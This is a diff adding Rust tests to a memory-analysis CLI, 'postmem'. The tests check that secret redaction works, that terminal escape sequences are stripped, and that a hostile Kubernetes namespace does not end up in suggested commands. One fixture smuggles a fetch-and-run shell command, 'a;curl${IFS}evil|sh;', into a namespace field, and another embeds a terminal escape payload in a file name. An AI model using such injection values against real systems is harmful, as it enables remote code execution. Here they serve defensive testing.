@@ -161,3 +161,81 @@ fn a_focus_that_nothing_bears_is_a_usage_error_and_one_without_a_finding_says_so
     let calm = postmem().arg(dir.path()).args(["--focus", "quiet"]).assert().code(0);
     assert!(text(&calm.get_output().stdout).contains("No finding of this input concerns quiet"), "{}", text(&calm.get_output().stdout));
 }
+
+/// Two class histograms in which a class is named like a connection string.
+fn histograms(dir: &TempDir) -> [std::path::PathBuf; 2] {
+    [(1, 100), (2, 9000)].map(|(n, count)| {
+        let path = dir.path().join(format!("h{n}.txt"));
+        let rows = format!(
+            " num     #instances         #bytes  class name (module)\n-------------------------------------------------------\n   1:  {count:>12}  {:>12}  postgres://bob:hunter2xyz@db/prod\n   2:            10           240  java.lang.String\nTotal  {:>12}  {:>12}\n",
+            count * 24,
+            count + 10,
+            count * 24 + 240
+        );
+        fs::write(&path, rows).unwrap();
+        path
+    })
+}
+
+#[test]
+fn a_comparison_and_an_inventory_hide_what_a_report_hides() {
+    let dir = TempDir::new().unwrap();
+    let [before, after] = histograms(&dir);
+    let labels = r#"{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"up","dsn":"postgres://bob:hunter2xyz@db"},"values":[[1793000000,"1"],[1793000030,"1"]]}]}}"#;
+    fs::write(dir.path().join("up.json"), labels).unwrap();
+    let mut shown = text(&postmem().arg("diff").args([&before, &after]).assert().code(0).get_output().stdout);
+    assert!(shown.contains("▮▮▮"), "{shown}");
+    for kind in ["json", "html", "md", "txt"] {
+        let page = postmem().arg("diff").args([&before, &after]).args(["-o", &format!("{kind}:-")]).assert().code(0);
+        shown.push_str(&text(&page.get_output().stdout));
+    }
+    shown.push_str(&text(&postmem().arg("inspect").arg(dir.path()).assert().code(0).get_output().stdout));
+    assert!(!shown.contains("hunter2xyz"), "{}", shown.split("hunter2xyz").next().unwrap().chars().rev().take(200).collect::<String>());
+    let asked = postmem().args(["diff", "--no-redact"]).args([&before, &after]).assert().code(0);
+    assert!(text(&asked.get_output().stdout).contains("hunter2xyz"), "only who asks for it sees it");
+    assert!(postmem().args(["diff", "-q"]).args([&before, &after]).assert().code(0).get_output().stdout.is_empty());
+}
+
+#[test]
+fn a_zone_that_is_not_known_is_a_usage_error() {
+    let dir = bundle();
+    postmem().args(["--tz", "Europe/Berln"]).arg(dir.path()).assert().code(2);
+    postmem().args(["analyze", "--tz", "Europe/Berln"]).arg(dir.path()).assert().code(2);
+    postmem().args(["analyze", "--tz", "+05:30"]).arg(dir.path()).assert().code(0);
+}
+
+#[test]
+fn names_from_a_bundle_do_not_act_on_a_terminal() {
+    let dir = bundle();
+    fs::write(dir.path().join("a\u{1b}]0;pwn\u{7}b.bin"), [0u8; 64]).unwrap();
+    let run = postmem().arg("analyze").arg(dir.path()).args(["--focus", "no\u{1b}pe"]).assert().code(2);
+    assert!(!text(&run.get_output().stderr).contains('\u{1b}'));
+    let run = postmem().arg(dir.path()).assert().code(0);
+    assert!(!text(&run.get_output().stderr).contains('\u{1b}') && !text(&run.get_output().stdout).contains('\u{1b}'));
+}
+
+#[test]
+fn commands_that_a_bundle_could_write_are_not_offered() {
+    let dir = TempDir::new().unwrap();
+    let pod = |ns: &str| {
+        serde_json::json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web-1", "namespace": ns, "uid": "u1"},
+            "spec": {"nodeName": "n1", "containers": [{"name": "app", "resources": {"limits": {"memory": "256Mi"}}}]},
+            "status": {"phase": "Running", "containerStatuses": [{"name": "app", "restartCount": 3, "lastState": {"terminated":
+                {"reason": "OOMKilled", "exitCode": 137, "startedAt": "2026-11-02T09:00:00Z", "finishedAt": "2026-11-02T10:00:00Z"}}}]}})
+    };
+    for (ns, offered) in [("shop", true), ("a;curl${IFS}evil|sh;", false)] {
+        fs::write(dir.path().join("pod.json"), pod(ns).to_string()).unwrap();
+        let page = text(&postmem().args(["analyze", "-o", "json:-"]).arg(dir.path()).assert().code(0).get_output().stdout);
+        let doc: serde_json::Value = serde_json::from_str(&page).unwrap();
+        let commands: Vec<&str> = doc["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .flat_map(|f| f["advice"].as_array().unwrap())
+            .chain(doc["coverage"].as_array().unwrap())
+            .filter_map(|a| a["command"].as_str())
+            .collect();
+        assert_eq!(commands.iter().any(|c| c.contains("shop")), offered, "{commands:?}");
+        assert!(!commands.iter().any(|c| c.contains("evil")), "{commands:?}");
+    }
+}
